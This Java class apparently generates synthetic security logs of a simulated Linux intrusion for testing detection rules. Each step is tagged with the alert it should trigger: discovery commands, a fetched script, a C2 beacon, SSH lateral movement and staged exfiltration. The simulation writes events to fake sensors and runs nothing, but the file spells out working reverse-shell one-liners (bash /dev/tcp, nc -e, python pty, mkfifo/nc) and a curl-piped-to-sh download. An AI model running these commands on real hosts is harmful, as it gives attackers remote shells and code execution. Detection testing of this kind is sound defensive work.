package io.weir.generators.attack;

import io.weir.generators.Draw;
import io.weir.generators.Stage;
import io.weir.generators.log.AuditLog;
import io.weir.generators.log.AuditLog.Account;
import io.weir.generators.log.NetworkSensor;
import io.weir.generators.log.SshSession;
import io.weir.generators.world.Host;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/** Somebody who is inside, on one Linux machine, and what comes next there. */
final class Intruder {
    private static final long SHORTEST_INTERVAL_MILLIS = 12_000;
    private static final long LEAST_LOOT = 800_000_000;
    private static final List<List<String>> LOOKS = List.of(
            List.of("whoami"),
            List.of("id"),
            List.of("uname", "-a"),
            List.of("hostname"),
            List.of("ip", "addr"),
            List.of("ss", "-tulpn"),
            List.of("ps", "aux"),
            List.of("cat", "/etc/passwd"),
            List.of("last", "-n", "20"),
            List.of("w"),
            List.of("netstat", "-an"),
            List.of("find", "/", "-perm", "-4000", "-type", "f"));

    private final Stage stage;
    private final Host host;
    private final Account account;
    private final AuditLog audit;

    Intruder(Stage stage, Host host, Account account) {
        this.stage = stage;
        this.host = host;
        this.account = account;
        this.audit = stage.sensors().audit();
        stage.reaches(host);
    }

    /** Where am I, and who else is here? */
    void lookAround(int commands) {
        for (List<String> command : stage.draw().pick(commands, LOOKS)) {
            run(command.toArray(String[]::new));
            stage.pass(800, 9000);
        }
        stage.expect("discovery-burst", "host.name", host.name());
    }

    void run(String... command) {
        audit.executed(stage.now(), host, account, "/home/" + account.user(), command);
    }

    /** Runs something that a rule knows. */
    void run(String rule, String[] command) {
        run(command);
        stage.expect(rule, "host.name", host.name());
        stage.pass(1500, 12_000);
    }

    /** A shell that calls back. */
    void openReverseShell(String server) {
        Draw draw = stage.draw();
        int port = draw.pick(List.of(4444, 1337, 9001, 8443));
        String target = "/dev/tcp/" + server + "/" + port;
        String[] command =
                switch (draw.between(0, 3)) {
                    case 0 -> new String[] {"bash", "-c", "bash -i >& " + target + " 0>&1"};
                    case 1 -> new String[] {"nc", "-e", "/bin/sh", server, Integer.toString(port)};
                    case 2 ->
                        new String[] {
                            "python3",
                            "-c",
                            "import socket,subprocess,os;s=socket.socket();s.connect((\"" + server + "\"," + port
                                    + "));[os.dup2(s.fileno(),f) for f in (0,1,2)];import pty;pty.spawn(\"/bin/sh\")"
                        };
                    default ->
                        new String[] {
                            "sh",
                            "-c",
                            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc " + server + " " + port
                                    + " >/tmp/f"
                        };
                };
        run("reverse-shell", command);
        NetworkSensor network = stage.sensors().network();
        network.connected(
                stage.now(),
                network.between(host.address(), server, port),
                "",
                draw.between(900, 1900),
                draw.between(300, 4000),
                draw.between(200, 2000));
        stage.pass(500, 2500);
    }

    /** Fetches a tool and hides it. */
    void fetchTool(String server) {
        String name = "/tmp/." + stage.draw().letters(6);
        run("sh", "-c", "curl -fsSL http://" + server + ":8000/" + stage.draw().letters(5) + ".sh | sh");
        stage.expect("download-piped-to-shell", "host.name", host.name());
        download(server);
        stage.pass(900, 4000);
        run("hidden-file-in-tmp", new String[] {"cp", "/dev/shm/k", name});
        run("chmod-777", new String[] {"chmod", "777", name});
    }

    private void download(String server) {
        NetworkSensor network = stage.sensors().network();
        String file = "/" + stage.draw().letters(5) + ".sh";
        network.requested(
                stage.now().plusMillis(40),
                network.between(host.address(), server, 8000),
                "GET",
                server + ":8000",
                file,
                "curl/8.5.0",
                "text/x-shellscript",
                stage.draw().between(400, 90_000));
        stage.expect("download-from-raw-address", "source.ip", host.address());
    }

    /** Asks its controller for orders, at an interval with a little chance in it. */
    void callHome(String controller, int contacts) {
        callHome(stage, host.address(), controller, contacts);
    }

    static void callHome(Stage stage, String from, String controller, int contacts) {
        Draw draw = stage.draw();
        NetworkSensor network = stage.sensors().network();
        long interval = stage.interval(1000L * draw.between(25, 90), SHORTEST_INTERVAL_MILLIS);
        for (int i = 0; i < contacts; i++) {
            network.visitedEncrypted(
                    stage.now(),
                    network.between(from, controller, 443),
                    "",
                    draw.between(80, 900),
                    draw.between(280, 620),
                    draw.between(400, 1500));
            stage.await(interval * 88 / 100, interval * 112 / 100);
        }
        stage.expect("c2-beacon", "source.ip", from, "destination.ip", controller);
    }

    /** Logs in to further machines from this one, with the account's name, quickly. */
    List<SshSession> moveOn(String user, int uid, int machines) {
        Draw draw = stage.draw();
        NetworkSensor network = stage.sensors().network();
        List<Host> others = stage.world().shellServers().stream()
                .filter(other -> !other.equals(host))
                .toList();
        List<SshSession> sessions = new ArrayList<>();
        for (Host other : draw.pick(machines, others)) {
            var ends = network.between(host.address(), other.address(), 22);
            network.connected(
                    stage.now(),
                    ends,
                    "ssh",
                    draw.between(900, 1900),
                    draw.between(3000, 9000),
                    draw.between(3000, 20_000));
            stage.pass(200, 900);
            sessions.add(stage.sensors()
                    .auth()
                    .sshAcceptedKey(stage.now(), other, user, uid, host.address(), ends.fromPort()));
            stage.reaches(other);
            stage.passSeconds(5, 18);
        }
        stage.uses(user);
        stage.expect("lateral-movement", "source.ip", host.address());
        return sessions;
    }

    /** Carries off what was found, in pieces, within ten minutes. */
    void carryOff(String drop) {
        run("tar", "czf", "/var/tmp/b.tgz", "/srv/data");
        stage.passSeconds(8, 25);
        Instant deadline = stage.now().plus(Duration.ofMinutes(7));
        carryOff(stage, host.address(), drop, stage.count(8, 16), deadline);
    }

    static void carryOff(Stage stage, String from, String drop, int pieces, Instant deadline) {
        Draw draw = stage.draw();
        NetworkSensor network = stage.sensors().network();
        long longestPause = Duration.between(stage.now(), deadline).toMillis() / pieces;
        long total = draw.between(LEAST_LOOT, 3 * LEAST_LOOT);
        for (int i = 0; i < pieces; i++) {
            network.connected(
                    stage.now(),
                    network.between(from, drop, 443),
                    "ssl",
                    draw.between(2000, 9000),
                    total / pieces + draw.between(1, 5_000_000),
                    draw.between(4000, 40_000));
            stage.pass(longestPause / 4, longestPause);
        }
        stage.expect("data-exfiltration", "source.ip", from);
    }
}
